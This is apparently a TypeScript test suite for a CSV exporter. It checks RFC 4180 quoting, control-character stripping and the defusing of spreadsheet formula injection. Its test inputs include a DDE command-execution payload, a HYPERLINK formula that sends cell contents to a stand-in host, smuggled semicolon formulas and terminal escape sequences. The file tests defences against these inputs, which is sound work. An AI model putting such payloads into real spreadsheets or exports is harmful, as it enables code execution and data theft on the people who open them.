import fc from 'fast-check';
import { parse } from 'papaparse';
import { describe, expect, it } from 'vitest';

import { plainText } from '../../../src/core/export/plain-text.ts';
import { toCsv } from '../../../src/platform/shared/csv-text.ts';

describe('the text of a CSV', () => {
  it('follows RFC 4180: commas, CRLF at the end of every line, quotes doubled', () => {
    const csv = toCsv({
      header: ['a', 'b'],
      rows: [
        ['x,y', 'say "hi"'],
        ['', 'a b'],
      ],
    });
    expect(csv).toBe('a,b\r\n"x,y","say ""hi"""\r\n,a b\r\n');
  });

  it('quotes every text with a sign that a program may take for a separator, and no number, date or plain word', () => {
    const header = ['R&D; Berlin', 'a|b', 'Research & more', "it's", '50 %', 'a~b'];
    const plain = ['-12.500000', '2026-10-01', '2026-10-01T00:00:00Z', 'claude-opus-5-5', 'Größe (cm)', ''];
    expect(toCsv({ header, rows: [plain] })).toBe(
      `${header.map((cell) => `"${cell}"`).join(',')}\r\n${plain.join(',')}\r\n`,
    );
  });

  it('keeps a name on its line, so that no name looks like a row', () => {
    const csv = toCsv({ header: ['name'], rows: [['x\r\nTotal,0.01,,USD,1,,total'], ['a\tb\u2028c']] });
    expect(csv).toBe('name\r\n"x Total,0.01,,USD,1,,total"\r\na b c\r\n');
  });

  it.each([
    "foo;=cmd|' /C calc'!A0;bar",
    'foo; =1+1',
    'foo;"=1+1',
    'foo;"" =1+1',
    'foo;;@SUM(A1)',
    'foo;\u200b+1;-1',
    'foo\t=1+1',
    ';＝1',
  ])('%j gives no formula to a spreadsheet that reads other separators or no quotes', (name) => {
    for (const delimiter of [';', '\t', ',']) {
      for (const quoteChar of ['"', '\u0000']) {
        const csv = toCsv({ header: ['month', 'workspace', 'cost'], rows: [['2026-10', name, '1.000000']] });
        const cells = parse<string[]>(csv, { delimiter, quoteChar }).data.flat();
        expect(cells.filter((cell) => /^[\s"]*[=+\-@|＝＋－＠]/.test(cell))).toEqual([]);
      }
    }
  });

  it('begins with a byte order mark only if that is requested', () => {
    const table = { header: ['a'], rows: [['日本']] };
    expect(toCsv(table, { hasBom: true })).toBe(`\ufeff${toCsv(table)}`);
    expect(toCsv(table)).toBe('a\r\n日本\r\n');
  });

  it.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    ' =1',
    '"=1',
    '\r=1',
    '\n=1',
    '=HYPERLINK("http://x/?"&A1)\nsecond line',
    '＝1',
    '|calc',
    '-',
    '--1',
    '-1e5',
    '\u0000=1',
    '\u202e=1',
  ])('defuses %j', (cell) => {
    const [[read = ''] = []] = parse<string[]>(toCsv({ header: [cell], rows: [] })).data;
    expect(read.startsWith("'")).toBe(true);
  });

  it.each(['-12.500000', '0.000000', '12', '-1', 'e=mc2', 'a-b', "'quoted'", 'a; b', 'a - b'])(
    'leaves the text of %j as it is',
    (cell) => {
      expect(parse<string[]>(toCsv({ header: [cell], rows: [] })).data[0]).toEqual([cell]);
    },
  );

  it('holds no control characters but those of its own line ends', () => {
    const cell = '\u001b]0;owned\u0007\u009b2J\u202egnol';
    expect(toCsv({ header: [cell], rows: [] })).toBe('"]0;owned2Jgnol"\r\n');
  });

  it('parsed back is the same table, the apostrophes of defused cells aside', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', ' ', "'", ';', 'a', '=', '\ufeff') }),
      fc.integer().map((units) => `${units}.123456`),
    );
    const tables = fc
      .integer({ min: 2, max: 5 })
      .chain((width) =>
        fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
      );
    fc.assert(
      fc.property(tables, ([header = [], ...rows]) => {
        const csv = toCsv({ header, rows });
        const read = parse<string[]>(csv.slice(0, -2), { delimiter: ',', newline: '\r\n' });
        expect(read.errors).toEqual([]);
        expect(read.data).toEqual([header, ...rows].map((row) => row.map(defused)));
      }),
      { numRuns: 500 },
    );
  });
});

/**
 * A second implementation of the rule that no cell becomes a formula. It looks at the first character of each part of
 * the cell.
 */
function defused(cell: string): string {
  const shown = plainText(cell);
  if (shown !== '' && /^-?[0-9]+(?:[.][0-9]+)?$/.test(shown)) return shown;
  // A spreadsheet program may start a new cell at the start of the text and after each semicolon.
  return shown
    .split(';')
    .map((part) => {
      const first = part.replaceAll('"', ' ').trim().slice(0, 1);
      return first !== '' && '=+-@|＝＋－＠'.includes(first) ? `'${part}` : part;
    })
    .join(';');
}
